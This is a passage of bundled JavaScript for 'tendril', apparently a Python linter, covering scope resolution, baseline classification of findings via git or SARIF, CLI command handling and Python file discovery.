        const scopes = this.model.scopes;
        const open = this.open;
        // Scopes are in pre-order of their nodes: open those that start before the node.
        while (this.next < scopes.length && scopes[this.next].node.id < id) {
            const scope = scopes[this.next++];
            while (open.length > 1 && end[open[open.length - 1].node.id] <= scope.node.id)
                open.pop();
            open.push(scope);
        }
        while (open.length > 1 && end[open[open.length - 1].node.id] <= id)
            open.pop();
        const top = open[open.length - 1];
        // A scope's outer parts (defaults, annotations, bases) run in its parent.
        const index = node.startIndex;
        for (const [start, stop] of top.outer)
            if (start <= index && index < stop)
                return top.parent;
        return top;
    }
}
exports.ScopeCursor = ScopeCursor;
/** True when one loop of `scope` holds both source indices: code at the later can run before code at the earlier. */
function sharesLoop(scope, a, b) {
    for (const [start, end] of scope.loops)
        if (start <= a && a <= end && start <= b && b <= end)
            return true;
    return false;
}
// ---------------------------------------------------------------------------------------------
// Resolution and the analysis
// ---------------------------------------------------------------------------------------------
/** Resolves every read the walk found (see RESOLUTION above) and counts the reads of each binding. */
function resolveReads(built, tree) {
    const reads = built.reads;
    for (let k = 0; k < reads.names.length; k++) {
        const binding = lookup(reads.scopes[k], reads.names[k], reads.at[k], reads.deferred[k]);
        reads.bindings.push(binding);
        if (binding)
            binding.reads++; // every binding of the model is one
    }
    let references;
    return {
        module: built.scopes[0],
        scopes: built.scopes,
        bindings: built.bindings,
        get references() {
            return (references ??= reads.objects(tree));
        },
        exports: built.exports,
        futureAnnotations: built.futureAnnotations,
    };
}
/** The shared scope/binding analysis; see the comment at the top of this file. */
exports.scopes = {
    name: 'scopes',
    create(context) {
        return new scope_builder_1.ScopeBuilder(context).visitor((built) => context.setAnalysis(exports.scopes.name, resolveReads(built, context.tree)));
    },
};


/***/ }),

/***/ 185:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.classify = classify;
/**
 * Classifies head findings against base findings by the match key (rule, path, enclosing symbol,
 * normalised source of the flagged construct, occurrence index). Findings with the same key in a
 * file are paired in position order: with two identical findings in the base and three in the
 * head, the first two are unchanged and the third is new, so a duplicated finding is not hidden
 * by the one it copies. Base findings must carry the head path (renames already mapped).
 * Sets `baselineState` on every head finding; returns the number of base findings left unpaired
 * (fixed: SARIF's `absent`).
 */
function classify(head, base) {
    const keyOf = (f) => `${f.path}\0${f.ruleId}\0${f.matchKey ?? `${f.line}:${f.column}`}`;
    const available = new Map();
    for (const f of base)
        available.set(keyOf(f), (available.get(keyOf(f)) ?? 0) + 1);
    const ordered = [...head].sort((a, b) => a.line - b.line || a.column - b.column || a.endLine - b.endLine || a.endColumn - b.endColumn);
    let paired = 0;
    for (const f of ordered) {
        const key = keyOf(f);
        const left = available.get(key) ?? 0;
        if (left > 0) {
            available.set(key, left - 1);
            f.baselineState = 'unchanged';
            paired++;
        }
        else {
            f.baselineState = 'new';
        }
    }
    return base.length - paired;
}


/***/ }),

/***/ 8119:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.headCommit = headCommit;
exports.parentsOf = parentsOf;
exports.mergeBase = mergeBase;
exports.isShallow = isShallow;
exports.unshallow = unshallow;
exports.tracksAnything = tracksAnything;
exports.resolveCommit = resolveCommit;
exports.changesSince = changesSince;
exports.showFile = showFile;
exports.hasCommit = hasCommit;
exports.fetchCommit = fetchCommit;
const child_process_1 = __nccwpck_require__(5317);
const errors_1 = __nccwpck_require__(3916);
/**
 * The few git commands a baseline needs, run in the analysis root with paths relative to it
 * (`--relative`, `./path`), so a root below the work tree's top works too.
 */
function git(root, args, encoding = 'utf8') {
    const r = (0, child_process_1.spawnSync)('git', args, { cwd: root, encoding: encoding === 'utf8' ? 'utf8' : undefined, maxBuffer: 1 << 30 });
    if (r.error)
        throw new errors_1.UsageError(`git could not be run (${r.error.code ?? r.error.message}); a baseline needs git`);
    const err = String(r.stderr ?? '').trim();
    if (r.status !== 0)
        gitRefusal(root, err);
    return { ok: r.status === 0, out: r.stdout, err };
}
/**
 * Failures that say nothing about the revision asked for, but about git and the checkout: they
 * get their own cause instead of "not a commit in this checkout".
 */
function gitRefusal(root, err) {
    if (/dubious ownership/i.test(err)) {
        throw new errors_1.UsageError(`git refuses the repository at ${root}: "detected dubious ownership" (the checkout belongs to another user, as in ` +
            `container jobs). Mark it safe before this step: git config --global --add safe.directory "${root}"`);
    }
    if (/not a git repository/i.test(err)) {
        throw new errors_1.UsageError(`${root} is not in a git repository: a baseline needs the checkout's history (actions/checkout; if the ` +
            `repository is checked out into a subdirectory, set the working-directory input to it)`);
    }
}
/** The commit checked out (HEAD), full id. */
function headCommit(root) {
    const r = git(root, ['rev-parse', '--verify', '--quiet', 'HEAD^{commit}']);
    if (!r.ok)
        throw new errors_1.UsageError(`git: the checkout at ${root} has no commit checked out (HEAD)${r.err ? `: ${r.err}` : ''}`);
    return String(r.out).trim();
}
/**
 * The parents of `commit` as its object records them: also in a shallow clone, where git itself
 * shows the commit without parents (the first parent of a merge commit can then be fetched).
 */
function parentsOf(root, commit) {
    const r = git(root, ['cat-file', 'commit', commit]);
    if (!r.ok)
        throw new errors_1.UsageError(`git cat-file ${commit} failed: ${r.err}`);
    const header = String(r.out).split('\n\n')[0];
    return [...header.matchAll(/^parent ([0-9a-f]+)$/gm)].map((m) => m[1]);
}
/** The best common ancestor of two commits, or undefined when the history does not have one. */
function mergeBase(root, a, b) {
    const r = git(root, ['merge-base', a, b]);
    return r.ok ? String(r.out).trim() : undefined;
}
/** True when the repository is a shallow clone. */
function isShallow(root) {
    const r = git(root, ['rev-parse', '--is-shallow-repository']);
    return r.ok && String(r.out).trim() === 'true';
}
/** Deepens a shallow clone to its full history (for a merge base). */
function unshallow(root) {
    return git(root, ['fetch', '--quiet', '--no-tags', '--unshallow', 'origin']).ok;
}
/** Paths tracked by git under `dir` (relative to the root), at most one. */
function tracksAnything(root, dir) {
    const r = (0, child_process_1.spawnSync)('git', ['ls-files', '-z', '--', dir], { cwd: root, encoding: 'utf8' });
    return r.status === 0 && r.stdout.length > 0;
}
/** The full commit id of `ref`, or a UsageError that says how to make it available. */
function resolveCommit(root, ref, source) {
    if (ref.startsWith('-'))
        throw new errors_1.UsageError(`${source}: '${ref}' is not a valid git revision`);
    const r = git(root, ['rev-parse', '--verify', '--quiet', `${ref}^{commit}`]);
    if (!r.ok) {
        throw new errors_1.UsageError(`${source}: '${ref}' is not a commit in this checkout. Fetch it first: actions/checkout with ` + `fetch-depth: 0, or 'git fetch --depth=1 origin ${ref}'`);
    }
    return String(r.out).trim();
}
/** What changed between `commit` and the working tree (renames detected, `git diff -M`). */
function changesSince(root, commit) {
    const diff = git(root, ['diff', '--name-status', '-z', '-M', '--relative', '--no-ext-diff', commit, '--']);
    if (!diff.ok)
        throw new errors_1.UsageError(`git diff against ${commit} failed: ${diff.err}`);
    const fields = String(diff.out).split('\0');
    const changed = new Map();
    const deleted = new Set();
    for (let i = 0; i + 1 < fields.length;) {
        const status = fields[i++];
        if (!status)
            break;
        if (status.startsWith('R') || status.startsWith('C')) {
            const from = fields[i++];
            const to = fields[i++];
            changed.set(to, from);
            if (status.startsWith('R'))
                deleted.add(from);
        }
        else {
            const file = fields[i++];
            if (status === 'D')
                deleted.add(file);
            else if (status !== 'A')
                changed.set(file, file);
        }
    }
    const tree = git(root, ['ls-tree', '-r', '-z', '--name-only', commit, '.']);
    if (!tree.ok)
        throw new errors_1.UsageError(`git ls-tree ${commit} failed: ${tree.err}`);
    const baseFiles = new Set(String(tree.out).split('\0').filter(Boolean));
    return { changed, deleted, baseFiles };
}
/** The bytes of `file` (relative to the root) at `commit`, or undefined if it is not there. */
function showFile(root, commit, file) {
    const r = git(root, ['show', `${commit}:./${file}`], 'buffer');
    return r.ok ? r.out : undefined;
}
/** True when `ref` names a commit in this checkout. */
function hasCommit(root, ref) {
    return !ref.startsWith('-') && git(root, ['rev-parse', '--verify', '--quiet', `${ref}^{commit}`]).ok;
}
/**
 * Fetches one commit from origin (shallow), for the default pull request baseline when the
 * checkout is shallow: actions/checkout keeps the credentials for origin by default.
 */
function fetchCommit(root, sha) {
    if (!/^[0-9a-f]{7,64}$/i.test(sha))
        return { ok: false, err: `'${sha}' is not a commit id` };
    const r = git(root, ['fetch', '--quiet', '--no-tags', '--depth=1', 'origin', sha]);
    return { ok: r.ok && hasCommit(root, sha), err: r.err };
}


/***/ }),

/***/ 3907:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.openBaseline = openBaseline;
exports.isChanged = isChanged;
exports.applyBaseline = applyBaseline;
exports.applyBaselineSarif = applyBaselineSarif;
const fs = __importStar(__nccwpck_require__(9896));
const os = __importStar(__nccwpck_require__(857));
const path = __importStar(__nccwpck_require__(6928));
const errors_1 = __nccwpck_require__(3916);
const pool_1 = __nccwpck_require__(6138);
const classify_1 = __nccwpck_require__(185);
const git_1 = __nccwpck_require__(8119);
function openBaseline(root, ref, source) {
    const commit = (0, git_1.resolveCommit)(root, ref, source);
    return { ref, commit, changes: (0, git_1.changesSince)(root, commit) };
}
/** Head files that differ from the base: changed, renamed or added (tracked or not). */
function isChanged(baseline, rel) {
    return baseline.changes.changed.has(rel) || !baseline.changes.baseFiles.has(rel);
}
/**
 * Classifies `findings` (of `files`, the head versions) against the base commit: files identical
 * to the base keep their findings as unchanged without analysing anything; files added since are
 * all new; changed and renamed files have their base version (`git show COMMIT:path`) analysed by
 * the same engine with the same rules, and are classified by match key. The base versions of
 * deleted files are analysed too, for the count of fixed findings, when `deletedPaths` says they
 * were in scope.
 */
async function applyBaseline(baseline, root, files, findings, ruleSets, 
/** The rule set (configuration) of a head path; a deleted file's own path. */
ruleSetOf, pool, deletedInScope) {
    const { changed, deleted, baseFiles } = baseline.changes;
    const toAnalyse = [];
    for (const file of files) {
        const base = changed.get(file.rel);
        if (base !== undefined)
            toAnalyse.push({ head: file.rel, base });
    }
    const renamedFrom = new Set(changed.values());
    for (const gone of deleted) {
        if (gone.endsWith('.py') && deletedInScope(gone) && !renamedFrom.has(gone))
            toAnalyse.push({ base: gone });
    }
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tendril-base-'));
    let baseFindings;
    try {
        const sources = [];
        const headOf = new Map();
        toAnalyse.forEach((entry, i) => {
            const bytes = (0, git_1.showFile)(root, baseline.commit, entry.base);
            if (!bytes)
                return;
            const abs = path.join(tmp, String(i));
            fs.writeFileSync(abs, bytes);
            sources.push({ abs, rel: entry.base, size: bytes.length, profile: ruleSetOf(entry.head ?? entry.base) });
            headOf.set(entry.base, entry.head);
        });
        const results = await (0, pool_1.analyzeFiles)(sources, ruleSets, pool);
        baseFindings = results.flatMap((r) => r.findings.map((f) => ({ ...f, path: headOf.get(r.path) ?? `\0deleted\0${r.path}` })));
    }
    finally {
        fs.rmSync(tmp, { recursive: true, force: true });
    }
    const compared = new Set(toAnalyse.flatMap((e) => (e.head ? [e.head] : [])));
    const toClassify = [];
    for (const finding of findings) {
        if (compared.has(finding.path))
            toClassify.push(finding);
        else
            finding.baselineState = baseFiles.has(finding.path) ? 'unchanged' : 'new';
    }
    const fixed = (0, classify_1.classify)(toClassify, baseFindings);
    const fresh = findings.filter((f) => f.baselineState === 'new').length;
    return { ref: baseline.ref, commit: baseline.commit, new: fresh, unchanged: findings.length - fresh, fixed };
}
/**
 * Classifies `findings` against a previous Tendril SARIF file (input `baseline-sarif`): its
 * results, with the match keys Tendril writes in `properties['tendril/matchKey']`, are the base.
 * No git is needed, so renames are not followed: a finding in a renamed file is new.
 */
function applyBaselineSarif(file, findings, source) {
    let log; // eslint-disable-line @typescript-eslint/no-explicit-any
    try {
        log = JSON.parse(fs.readFileSync(file, 'utf8'));
    }
    catch (error) {
        throw new errors_1.UsageError(`${source}: cannot read ${file} as SARIF (${error.code ?? error.message})`);
    }
    if (!Array.isArray(log.runs))
        throw new errors_1.UsageError(`${source}: ${file} is not a SARIF log (no runs)`);
    const base = [];
    for (const run of log.runs) {
        for (const result of run.results ?? []) {
            const physical = result.locations?.[0]?.physicalLocation ?? {};
            const region = physical.region ?? {};
            const uri = String(physical.artifactLocation?.uri ?? '');
            base.push({
                ruleId: String(result.ruleId ?? ''),
                path: uri.split('/').map(decodeURIComponent).join('/'),
                line: region.startLine ?? 0,
                column: region.startColumn ?? 0,
                endLine: region.endLine ?? 0,
                endColumn: region.endColumn ?? 0,
                message: String(result.message?.text ?? ''),
                matchKey: result.properties?.['tendril/matchKey'],
            });
        }
    }
    const fixed = (0, classify_1.classify)(findings, base);
    const fresh = findings.filter((f) => f.baselineState === 'new').length;
    return { ref: path.basename(file), commit: 'sarif', new: fresh, unchanged: findings.length - fresh, fixed };
}


/***/ }),

/***/ 5581:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.main = main;
const fs = __importStar(__nccwpck_require__(9896));
const os = __importStar(__nccwpck_require__(857));
const path = __importStar(__nccwpck_require__(6928));
const util_1 = __nccwpck_require__(9023);
const git_1 = __nccwpck_require__(8119);
const config_1 = __nccwpck_require__(9551);
const config_2 = __nccwpck_require__(3966);
const discover_1 = __nccwpck_require__(4883);
const profiles_1 = __nccwpck_require__(6738);
const worker_1 = __nccwpck_require__(6286);
const rules_1 = __nccwpck_require__(5755);
const cachetrust_1 = __nccwpck_require__(7632);
const errors_1 = __nccwpck_require__(3916);
const json_1 = __nccwpck_require__(2794);
const catalogue_1 = __nccwpck_require__(2239);
const merge_1 = __nccwpck_require__(3278);
const sarif_1 = __nccwpck_require__(643);
const text_1 = __nccwpck_require__(5655);
const run_1 = __nccwpck_require__(319);
const gates_1 = __nccwpck_require__(2343);
const options_1 = __nccwpck_require__(8031);
const settings_1 = __nccwpck_require__(7100);
const version_1 = __nccwpck_require__(311);
const HELP = `Usage: tendril <command> [options]

Commands:
  check [PATH...]   Analyse Python files (default: the current directory)
  rules             List the rule catalogue
  explain RULE      Show a rule's help (rule id or alias, such as F401 or B602)
  config [PATH...]  Show the settings a check of PATH would use (takes check's options)
  merge FILE... -o OUT
                    Merge SARIF files of shards (--shard K/N) into one, as one unsharded run
  help              Show this help

Options for check:
${(0, options_1.cliHelp)()}
Exit codes: 0 no gate failed, 1 a gate failed, 2 usage, configuration or internal error.
`;
/** The SARIF report; what GitHub's limits made it leave out is also said on stderr. */
function sarifBytes(outcome) {
    const written = (0, sarif_1.writeSarif)(outcome);
    for (const drop of written.drops)
        process.stderr.write(`tendril: warning: ${drop.message}\n`);
    return written.bytes;
}
/** The nearer configuration files that apply to some of the analysed files, with how many. */
function nestedProfiles(settings) {
    const profiles = new profiles_1.Profiles(settings);
    const counts = new Map();
    for (const file of (0, discover_1.discover)(settings.root, settings.paths, { exclude: settings.exclude }).files) {
        if (profiles.excluded(file.abs))
            continue;
        const index = profiles.indexOf(file.abs);
        if (index > 0)
            counts.set(index, (counts.get(index) ?? 0) + 1);
    }
    return [...counts].sort(([a], [b]) => a - b).map(([index, files]) => ({ profile: profiles.list[index], files }));
}
async function check(args, mode = 'check') {
    const { values, positionals } = (0, util_1.parseArgs)({ args, allowPositionals: true, strict: true, options: (0, options_1.cliParseOptions)() });
    // Every flag is read and validated as src/settings/options.ts says; errors name the flag.
    const flags = new options_1.Given('cli', (name) => values[name], process.cwd());
    const format = flags.valueOr('format');
    const root = flags.value('root') ?? path.resolve((0, discover_1.findRoot)(process.cwd()));
    const paths = positionals.length ? positionals : ['.'];
    const configNamed = flags.value('config');
    const configFile = configNamed ?? (0, config_1.findConfig)((0, config_1.commonDirectory)(paths));
    const fromFile = configFile ? (0, settings_1.readConfigFile)(configFile) : {};
    const fromFlags = flags.settings();
    const jobs = flags.value('jobs') ?? os.availableParallelism();
    if (fromFlags.scope === 'changed' && !fromFlags.baselineRef)
        throw new errors_1.UsageError("--scope: 'changed' needs --baseline-ref");
    if (fromFlags.baselineRef)
        (0, git_1.resolveCommit)(root, fromFlags.baselineRef, '--baseline-ref');
    const settings = {
        ...(0, settings_1.resolveSettings)({ root, paths, jobs }, fromFile, fromFlags),
        jobsAuto: flags.value('jobs') === undefined,
        configFile,
        // Without --config, configuration files nearer to the analysed files apply to them.
        configSearch: configNamed === undefined ? { from: (0, config_1.commonDirectory)(paths), flags: fromFlags } : undefined,
    };
    // A cache the analysed commit wrote (tracked by git) is never trusted (src/cachetrust.ts).
    const refused = settings.cacheDir && mode !== 'config' ? (0, cachetrust_1.cacheRefusal)(settings.cacheDir, root) : undefined;
    if (refused) {
        process.stderr.write(`tendril: warning: ${refused}\n`);
        settings.cacheDir = undefined;
    }
    if (mode === 'config') {
        process.stdout.write((0, config_2.formatResolvedSettings)(settings, nestedProfiles(settings)));
        return 0;
    }
    // "analysing... N/M files" on stderr after two seconds, when stderr is a terminal.
    const progress = (0, config_2.startProgress)(process.stderr);
    let outcome;
    try {
        outcome = await (0, run_1.run)(settings, __filename, { onFiles: progress.total, onProgress: progress.done });
    }
    finally {
        progress.stop();
    }
    for (const n of outcome.notifications)
        process.stderr.write(`tendril: ${n.level}: ${n.message}\n`);
    const output = flags.value('output');
    const colour = !flags.valueOr('no-color') && !process.env.NO_COLOR && !output && process.stdout.isTTY === true;
    const report = format === 'sarif'
        ? sarifBytes(outcome)
        : format === 'json'
            ? (0, json_1.formatJson)(outcome)
            : (0, text_1.formatText)(outcome, colour, { quiet: flags.valueOr('quiet'), statistics: flags.valueOr('statistics') });
    if (output) {
        fs.mkdirSync(path.dirname(path.resolve(output)), { recursive: true });
        fs.writeFileSync(output, report);
        process.stderr.write(`tendril: ${(0, text_1.totalsLine)(outcome)}; ${format} report written to ${output}\n`);
        for (const reason of outcome.gate.reasons)
            if (reason !== outcome.gate.internalError)
                process.stderr.write(`tendril: gate failed: ${reason}\n`);
    }
    else {
        process.stdout.write(report);
    }
    // An internal error fails the run whatever the gates say (src/gate/gates.ts): exit 2.
    if (outcome.gate.internalError)
        process.stderr.write(`tendril: error: ${outcome.gate.internalError}\n`);
    return (0, gates_1.exitCode)(outcome.gate);
}
/** `tendril merge A.sarif B.sarif ... -o all.sarif`: shards -> one log, as one unsharded run. */
function merge(args) {
    const { values, positionals } = (0, util_1.parseArgs)({ args, allowPositionals: true, strict: true, options: { output: { type: 'string', short: 'o' } } });
    if (positionals.length === 0)
        throw new errors_1.UsageError('merge: give the SARIF files to merge (tendril merge A.sarif B.sarif -o all.sarif)');
    const inputs = positionals.map((name) => {
        try {
            return { name, text: fs.readFileSync(name, 'utf8') };
        }
        catch (error) {
            throw new errors_1.UsageError(`merge: cannot read ${name} (${error.code ?? 'error'})`);
        }
    });
    const merged = (0, merge_1.mergeSarif)(inputs);
    if (values.output) {
        fs.mkdirSync(path.dirname(path.resolve(values.output)), { recursive: true });
        fs.writeFileSync(values.output, merged);
        process.stderr.write(`tendril: ${positionals.length} SARIF files merged into ${values.output}\n`);
    }
    else {
        process.stdout.write(merged);
    }
    return 0;
}
async function main(argv) {
    const [command, ...rest] = argv;
    switch (command) {
        case 'check':
            return check(rest);
        case 'merge':
            return merge(rest);
        case 'config':
            return check(rest, 'config');
        case 'explain': {
            const { positionals } = (0, util_1.parseArgs)({ args: rest, strict: true, allowPositionals: true, options: {} });
            if (positionals.length !== 1)
                throw new errors_1.UsageError("explain: name one rule, by id or alias (see 'tendril rules')");
            process.stdout.write((0, config_2.formatExplain)(positionals[0]));
            return 0;
        }
        case 'rules': {
            (0, util_1.parseArgs)({ args: rest, strict: true, options: {} });
            process.stdout.write((0, catalogue_1.formatRulesText)());
            return 0;
        }
        case undefined:
        case 'help':
        case '--help':
        case '-h':
            process.stdout.write(HELP);
            return command === undefined ? 2 : 0;
        case '--version':
        case '-V':
            process.stdout.write(`tendril ${version_1.VERSION}\n`);
            return 0;
        default:
            throw new errors_1.UsageError(`unknown command '${command}' (try 'tendril help')`);
    }
}
/** One line on stderr and exit code 2 for any error: no stack trace reaches the user. */
function reason(error) {
    if (error instanceof errors_1.UsageError)
        return error.message;
    const code = error?.code;
    if (typeof code === 'string' && code.startsWith('ERR_PARSE_ARGS'))
        return error.message;
    return `internal error: ${error instanceof Error ? error.message : String(error)}`;
}
if ((0, worker_1.isTendrilWorker)()) {
    (0, worker_1.runWorker)(rules_1.ALL_RULES);
}
else {
    main(process.argv.slice(2)).then((code) => {
        process.exitCode = code;
    }, (error) => {
        process.stderr.write(`tendril: ${reason(error)}\n`);
        process.exitCode = 2;
    });
}


/***/ }),

/***/ 4883:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.DEFAULT_EXCLUDES = void 0;
exports.defaultExcludes = defaultExcludes;
exports.findRoot = findRoot;
exports.discover = discover;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const errors_1 = __nccwpck_require__(3916);
const glob_1 = __nccwpck_require__(3854);
/** Directories never descended into (by name), wherever they are. */
exports.DEFAULT_EXCLUDES = [
    '.git',
    '.hg',
    '.svn',
    '.venv',
    'venv',
    'node_modules',
    'build',
    'dist',
    '__pycache__',
    '.tox',
    '.nox',
    '.mypy_cache',
    '.pytest_cache',
    '.ruff_cache',
    '.tendril_cache',
];
/** DEFAULT_EXCLUDES as patterns: each a directory name at any depth. */
function defaultExcludes(root) {
    return exports.DEFAULT_EXCLUDES.map((name) => (0, glob_1.compilePattern)(name + '/', root));
}
/** True for an extensionless file whose first line is a Python shebang (`#!/usr/bin/env python3`). */
function hasPythonShebang(abs) {
    let fd;
    try {
        fd = fs.openSync(abs, 'r');
        const buffer = Buffer.alloc(128);
        const n = fs.readSync(fd, buffer, 0, 128, 0);
        const first = buffer.subarray(0, n).toString('latin1').split('\n')[0];
        return /^#!.*\bpython(?:[0-9.]*)(?:\s|$)/.test(first);
    }
    catch {
        return false;
    }
    finally {
        if (fd !== undefined)
            fs.closeSync(fd);
    }
}
function toRel(root, abs) {
    return (0, glob_1.relTo)(root, abs) ?? path.relative(root, abs).split(path.sep).join('/');
}
function inside(root, abs) {
    const rel = path.relative(root, abs);
    return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
}
/** The git work tree that holds `dir`, or `dir` itself: the default root for URIs. */
function findRoot(dir) {
    let current = path.resolve(dir);
    for (;;) {
        if (fs.existsSync(path.join(current, '.git')))
            return current;
        const parent = path.dirname(current);
        if (parent === current)
            return path.resolve(dir);
        current = parent;
    }
}
/**
 * Expands the paths to analyse into Python files under `root`: directories are walked (sorted,
 * default excludes skipped, symbolic links to directories not followed, so no loop and no escape),
 * `*.py` files are taken; a file named explicitly is taken whatever its name. A file reached
 * through a link is taken only if its target is inside the root. The result is sorted and
 * deduplicated, so the same tree always gives the same list.
 */
function discover(root, paths, options = {}) {
    const realRoot = fs.realpathSync(root);
    const exclude = options.exclude ?? defaultExcludes(root);
    const useGitignore = options.gitignore ?? true;
    const files = new Map();
    const notifications = [];
    const addFile = (abs, stat) => {
        const rel = toRel(root, abs);
        if (!files.has(rel))
            files.set(rel, { abs, rel, size: stat.size });
    };
    const linkTargetInside = (abs) => {
        try {
            const target = fs.realpathSync(abs);
            if (!inside(realRoot, target))
                return undefined;
            return fs.statSync(target);
        }
        catch {
            return undefined;
        }
    };
    const walkDir = (dir, parentIgnores) => {
        const ignores = useGitignore ? parentIgnores.enter(dir) : parentIgnores;
        let entries;
        try {
            entries = fs.readdirSync(dir, { withFileTypes: true });
        }
        catch (error) {
            const rel = toRel(root, dir) || '.';
            notifications.push({
                level: 'error',
                id: 'file-unreadable',
                path: rel,
                message: `Directory ${rel} could not be read (${error.code ?? 'error'}); files below it were not analysed.`,
            });
            return;
        }
        entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
        for (const entry of entries) {
            const abs = path.join(dir, entry.name);
            if (entry.isDirectory()) {
                // The directories above were found clear on the way down: only this one's path is tested.
                if (!(0, glob_1.matchesPath)(exclude, abs, true) && !ignores.ignored(abs, true))
                    walkDir(abs, ignores);
            }
            else if (entry.isFile() || entry.isSymbolicLink()) {
                const python = entry.name.endsWith('.py');
                if (!python && entry.name.includes('.'))
                    continue;
                if ((0, glob_1.matchesPath)(exclude, abs, false) || ignores.ignored(abs, false))
                    continue;
                // A link is taken only when its target is a file inside the root; links to directories are
                // never followed (no loops, no escape).
                const stat = entry.isFile() ? fs.statSync(abs) : linkTargetInside(abs);
                if (!stat?.isFile())
                    continue;
                if (python || hasPythonShebang(abs))
                    addFile(abs, stat);
            }
        }
    };
    for (const given of paths) {
        const abs = path.resolve(given);
        if (!inside(root, abs)) {
            throw new errors_1.UsageError(`${given} is outside the analysis root ${root}; run from inside it or pass --root`);
        }
        let stat;
        try {
            stat = fs.statSync(abs);
        }
        catch {
            throw new errors_1.UsageError(`path not found: ${given}`);
        }
        if (!inside(realRoot, fs.realpathSync(abs))) {
            throw new errors_1.UsageError(`${given} is a symbolic link (or below one) that leads outside the analysis root ${root}; not followed`);
        }
        if (stat.isDirectory()) {
            // The .gitignore files of the directories above, down from the root.
            let ignores = glob_1.IgnoreStack.empty();
            if (useGitignore) {
                const chain = [];
                for (let d = path.dirname(abs); inside(root, d) && d !== abs; d = path.dirname(d)) {
                    chain.unshift(d);
                    if (d === root || path.dirname(d) === d)
                        break;
                }
                for (const d of chain)
                    ignores = ignores.enter(d);
            }
            // A directory given that an exclude pattern covers (itself or a directory above it, below
            // the pattern's base) has every file below it excluded.
            if (!(0, glob_1.matchesAny)(exclude, abs, true))
                walkDir(abs, ignores);
        }
        else if (stat.isFile())
            addFile(abs, stat);
        else
            throw new errors_1.UsageError(`not a file or directory: ${given}`);
    }
    return {
        files: [...files.values()].sort((a, b) => (a.rel < b.rel ? -1 : a.rel > b.rel ? 1 : 0)),
        notifications,
    };
}


/***/ }),

/***/ 3854:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
